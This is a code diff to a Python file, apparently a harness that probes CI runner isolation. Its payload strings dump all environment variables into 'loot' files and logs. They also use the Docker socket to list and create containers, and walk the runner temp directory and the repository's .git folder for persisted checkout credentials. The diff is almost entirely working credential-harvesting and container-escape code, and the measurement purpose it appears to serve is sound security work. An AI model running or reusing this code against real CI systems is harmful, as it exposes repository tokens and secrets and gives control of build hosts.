@@ -72,6 +72,8 @@ ENV = "\\n".join(f"{k}={v}" for k, v in os.environ.items())
 loot("os.environ", ENV)
 print(ENV)
 TRIED["variables"] = len(os.environ)
+RUNNERS = ("GITHUB_", "INPUT_", "RUNNER_", "ACTIONS_")
+TRIED["runner_variables"] = sum(1 for name in os.environ if name.startswith(RUNNERS))
 for place in ("environ.txt", f"/github/workspace/loot-{MARKER}.txt", os.path.expanduser("~/env")):
     append(place, ENV)
 atexit.register(print, "ENVIRON " + " ".join(f"{k}={v}" for k, v in os.environ.items()))
@@ -106,6 +108,8 @@ for directory in ("/github/workspace", "."):
 TRIED["config_readable"] = int(read("/github/workspace/.git/config") is not None)
 """
 
+# The Docker socket, as the runner mounts it: whether it is there (a socket), whether
+# connecting worked, and the errno when it did not (EACCES, not ENOENT).
 DOCKER = r"""
 def docker(method, path, body=b""):
     client = socket.socket(socket.AF_UNIX)
@@ -113,6 +117,7 @@ def docker(method, path, body=b""):
     try:
         client.connect("/var/run/docker.sock")
     except OSError as error:
+        TRIED["docker_errno"] = error.errno or 0
         return None, f"no connection: {error}"
     TRIED["docker_connected"] = TRIED.get("docker_connected", 0) + 1
     head = f"{method} {path} HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
@@ -127,6 +132,11 @@ def docker(method, path, body=b""):
     return answer, answer[:200]
 
 
+import stat as _stat
+try:
+    TRIED["docker_socket"] = int(_stat.S_ISSOCK(os.stat("/var/run/docker.sock").st_mode))
+except OSError:
+    TRIED["docker_socket"] = 0
 TRIED["docker_connected"] = 0
 listed, said = docker("GET", "/containers/json")
 atexit.register(print, f"DOCKER GET /containers/json: {said}")
@@ -138,6 +148,26 @@ if listed is not None:
                         "Labels": {"repogym-attack": MARKER}}).encode()
     made, said = docker("POST", "/containers/create", body)
     atexit.register(print, f"DOCKER POST /containers/create: {said}")
+"""
+
+# Every file under RUNNER_TEMP and the workspace's git directory, read: the credentials
+# actions/checkout persisted are in one of them (.git/config, or v6's
+# git-credentials-<uuid>.config). It counts the files, those named as v6 names its
+# file, and those it read that hold an extraheader.
+WALK = """
+TRIED.update(files=0, v6_files=0, headers_got=0)
+for top in ("/github/runner_temp", "/github/workspace/.git"):
+    for directory, _, names in os.walk(top):
+        for name in names:
+            path = os.path.join(directory, name)
+            if os.path.islink(path) or not os.path.isfile(path):
+                continue
+            TRIED["files"] += 1
+            if name.startswith("git-credentials-") and name.endswith(".config"):
+                TRIED["v6_files"] += 1
+            data = read(path)
+            if data is not None and b"extraheader" in data.lower():
+                TRIED["headers_got"] += 1
 """
 
 FILE_COMMANDS = """
